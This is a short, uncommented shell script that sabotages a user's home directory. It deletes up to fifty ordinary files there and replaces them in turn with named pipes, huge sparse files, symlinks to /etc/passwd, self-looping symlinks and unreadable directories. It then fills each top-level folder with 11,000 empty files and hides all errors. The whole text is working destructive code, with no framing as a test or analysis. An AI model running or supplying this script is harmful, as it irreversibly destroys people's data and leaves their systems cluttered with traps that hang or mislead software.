cd ~
find . -mindepth 1 -maxdepth 2 -type f ! -path './.*' 2>/dev/null | head -50 | while read -r file; do
  case $((i % 5)) in
    0) rm -f "$file"; mkfifo "$file" ;;
    1) rm -f "$file"; truncate -s 1T "$file" 2>/dev/null || truncate -s 900M "$file" ;;
    2) ln -sf /etc/passwd "$file" ;;
    3) ln -sf "$file" "$file" ;;
    4) rm -f "$file"; mkdir "$file"; chmod 000 "$file" ;;
  esac
  i=$((i + 1))
done
for folder in */; do seq 11000 | sed "s#^#$folder.#" | xargs touch 2>/dev/null; done
true
